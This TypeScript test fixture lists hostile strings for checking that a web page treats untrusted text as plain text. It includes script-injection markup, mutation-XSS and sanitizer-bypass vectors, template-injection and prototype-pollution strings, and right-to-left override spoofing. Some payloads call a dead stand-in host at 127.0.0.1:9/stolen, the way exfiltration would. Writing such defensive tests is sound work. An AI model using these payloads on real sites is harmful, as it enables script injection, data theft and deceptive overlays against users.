/**
 * What a hostile teammate would put wherever text goes, against a page: each would ask for something, run something, or
 * break the page's layout if it were ever anything but text.
 */
import { HOSTILE } from '../../mcp/support/hostile.ts';
import { OWNED } from './window.ts';

/** Where hostile text would ask; nothing answers there. */
const ELSEWHERE = 'http://127.0.0.1:9/stolen';

const run = `globalThis.${OWNED}=1;alert(1);fetch('${ELSEWHERE}')`;

/** What would act at once where it is taken for markup. */
export const MARKUP: readonly string[] = [
  `<script>${run}</script>`,
  `</script><script>${run}</script>`,
  `"><script src="${ELSEWHERE}.js"></script>`,
  `'"--></style></title></textarea></noscript></template><script>${run}</script>`,
  `<img src=x onerror="${run}">`,
  `<img src="${ELSEWHERE}.png" srcset="${ELSEWHERE}.png 2x" loading="eager">`,
  `<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"><script>${run}</script><use href="${ELSEWHERE}#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${OWNED}=1</script>"></iframe></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<iframe src="javascript:${run}"></iframe><object data="${ELSEWHERE}"></object><embed src="${ELSEWHERE}">`,
  `<link rel=stylesheet href="${ELSEWHERE}.css"><link rel=prefetch href="${ELSEWHERE}"><link rel=dns-prefetch href="//evil.invalid">`,
  `<meta http-equiv=refresh content="0;url=${ELSEWHERE}"><base href="${ELSEWHERE}/">`,
  `<body onload="${run}"><input autofocus onfocus="${run}"><details open ontoggle="${run}">`,
  `<form action="${ELSEWHERE}"><button>Accept</button></form><dialog open>Accept the invite?</dialog>`,
  `<style>*{display:none!important}body{background:url(${ELSEWHERE})}@import "${ELSEWHERE}.css";</style>`,
  `<div style="position:fixed;inset:0;z-index:2147483647;background:url(${ELSEWHERE})">covered</div>`,
  `<video poster="${ELSEWHERE}" src="${ELSEWHERE}" autoplay></video><audio src="${ELSEWHERE}" onerror="${run}"></audio>`,
  `<a href="javascript:${run}" ping="${ELSEWHERE}">click</a> <a href="data:text/html,<script>${run}</script>">data</a>`,
];

const OTHER_LANGUAGES: readonly string[] = [
  `[click](javascript:${run}) [data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) ![x](${ELSEWHERE}.png)`,
  `<${ELSEWHERE}> https://evil.invalid/?q=secret [[${ELSEWHERE}]] ![][1]\n\n[1]: ${ELSEWHERE}.png`,
  `javascript:${run}`,
  `{{constructor.constructor("${run}")()}} \${${run}} <%= ${OWNED} %> #{${run}} {{{${run}}}} {%raw%}`,
  `__proto__ constructor.prototype.${OWNED} ["__proto__"]`,
  `&lt;script&gt;${run}&lt;/script&gt; &#60;img src=x onerror=${run}&#62; \\u003cscript\\u003e`,
  `url(${ELSEWHERE}); } * { display: none } @import '${ELSEWHERE}';`,
];

/** Against layout and eyes rather than against the parser. */
const SHAPES: readonly string[] = [
  'W'.repeat(20_000),
  'wide '.repeat(4000),
  `${'a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307'.repeat(40)}${'\u0489'.repeat(200)} zalgo`,
  `שלום עולם ${'ו'.repeat(300)} \u202eevil.exe\u202c \u2067right to left\u2069 مرحبا`,
  `${'\u202e'.repeat(50)}${'\u2066'.repeat(50)} after many overrides`,
  `${'\n'.repeat(500)}after many lines`,
  `${'\t'.repeat(300)}after many tabs`,
  `\u0000null\u0000 \u0007bell \u001b[31mred\u001b[0m \u001b]0;title\u0007 \u009b2J`,
  '👩‍👩‍👧‍👦'.repeat(200),
  '𒐫'.repeat(100) + '﷽'.repeat(50),
  `\ufeff\u200b\u200d\u2060\u00ad${'\u3164'.repeat(100)}invisible`,
  `${'| '.repeat(500)}\n${'|---'.repeat(500)}`,
];

/** Every one of them as a line of text. */
export const HOSTILE_TEXTS: readonly string[] = [...MARKUP, ...OTHER_LANGUAGES, ...SHAPES, ...HOSTILE].filter(
  (text) => text.trim() !== '',
);

/** Short ones, for names, notes and paths. */
export const HOSTILE_NAMES: readonly string[] = [
  `<img src=x onerror="globalThis.${OWNED}=1">`,
  `"><svg onload=globalThis.${OWNED}=1>`,
  '\u202egnp.exe',
];
